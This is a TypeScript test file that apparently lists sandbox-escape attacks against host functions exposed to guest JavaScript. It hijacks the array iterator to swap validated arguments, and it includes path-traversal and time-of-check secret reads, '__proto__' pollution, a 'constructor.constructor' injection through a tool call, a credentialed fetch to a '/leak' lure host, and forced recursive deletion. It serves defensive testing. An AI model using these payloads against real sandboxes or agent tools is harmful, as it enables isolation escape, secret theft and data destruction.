// At the host functions, with what they don't expect. The guest's world looks at arguments before it
// passes them on, in the guest, where an attacker can change them behind its back.
import { claim, type Attack } from '../attack.ts';

/**
 * `passing(fits, evil, call)`: while `call` runs, the first host function whose arguments fit gets the
 * evil ones instead. The kernel spreads the arguments, and how a list is spread is the guest's to say.
 */
const passing = `
  function passing(fits, evil, call) {
    const iterate = Array.prototype[Symbol.iterator];
    let isDone = false;
    Array.prototype[Symbol.iterator] = function () {
      const hit = !isDone && fits(this);
      isDone ||= hit;
      return iterate.call(hit ? evil : this);
    };
    try { return call() } finally { Array.prototype[Symbol.iterator] = iterate }
  }`;

export const hostFunctionAttacks: readonly Attack[] = [
  {
    name: "a part of a file that begins before it, where another's content is",
    cells: `${passing}
      fs.writeFileSync('armed', 'x'.repeat(200));
      const bytes = Buffer.alloc(200);
      const handle = fs.openSync('armed', 'r');
      passing((list) => list.length === 3 && list[2] === 200, ['/workspace/armed', -100, 200], () => fs.readSync(handle, bytes));
      bytes.toString()`,
    without: 'host-functions',
    harm: 'secret',
  },
  {
    name: 'more random bytes than there is memory',
    cells: `${passing} passing((list) => list.length === 1 && list[0] === 16, [4e8], () => crypto.getRandomValues(new Uint8Array(16))); 0`,
    without: 'host-functions',
    harm: 'memory',
  },
  {
    name: 'a query that names the prototype of all objects',
    cells: `new URLSearchParams('__proto__[owned' + Math.random().toString(36).slice(2) + ']=owned').toString()`,
    without: 'host-functions',
    harm: 'realm',
  },
  {
    name: 'a tool by the name of what makes functions',
    cells: `${passing}
      const call = () => tools.Glob({ pattern: 'armed' });
      passing((list) => list[0] === 'Glob', ['constructor.constructor', '"globalThis[Math.random()] = 1"'], call).catch(() => {}); 0`,
    without: 'host-functions',
    harm: 'realm',
  },
  {
    name: 'a request that is no list',
    cells: `${passing}
      const head = JSON.stringify({ 0: lures.http + '/leak', 1: 'GET', 2: 'follow', length: 3, credentials: 'include' });
      const call = () => fetch(lures.allowed);
      await passing((list) => typeof list[0] === 'string' && list[0].startsWith('["http'), [head], call)`,
    without: 'host-functions',
    harm: 'network',
  },
  {
    name: 'a path that is read in another way than it is judged',
    cells: `fs.readFileSync('/workspace/locked/../secret/key.txt', 'utf8')`,
    without: 'host-functions',
    harm: 'secret',
  },
  {
    name: 'a path that is another when it is read again',
    cells: `${passing}
      let asked = 0;
      const path = { toString: () => ((asked += 1) === 1 ? '/workspace/readme.txt' : '/workspace/secret/key.txt') };
      passing((list) => list.length === 1 && list[0] === 'armed', [path], () => fs.readFileSync('armed', 'utf8'))`,
    without: 'host-objects',
    harm: 'secret',
  },
  {
    name: "bytes that are the host's own",
    cells: `fs.readFileSync('readme.txt').fill('!'); 0`,
    after: `fs.readFileSync('readme.txt').toString().startsWith('!') ? '${claim}' : 'nothing'`,
    without: 'host-objects',
    harm: 'claimed',
  },
  {
    name: 'no path at all, and everything else that is none',
    cells: `${passing}
      const none = [undefined, null, NaN, -1, 1n, true, {}, [], () => 0, Symbol.iterator, new Proxy({}, {}), new Uint8Array(8)];
      for (const evil of none) for (const call of [() => fs.rmSync('armed', { recursive: true, force: true }), () => fs.writeFileSync('armed', 'x')]) {
        try { passing((list) => list.length > 2 && list[0] === 'armed', [evil, true, true], call) } catch {}
      } 0`,
    without: 'host-functions',
    harm: 'files',
  },
];
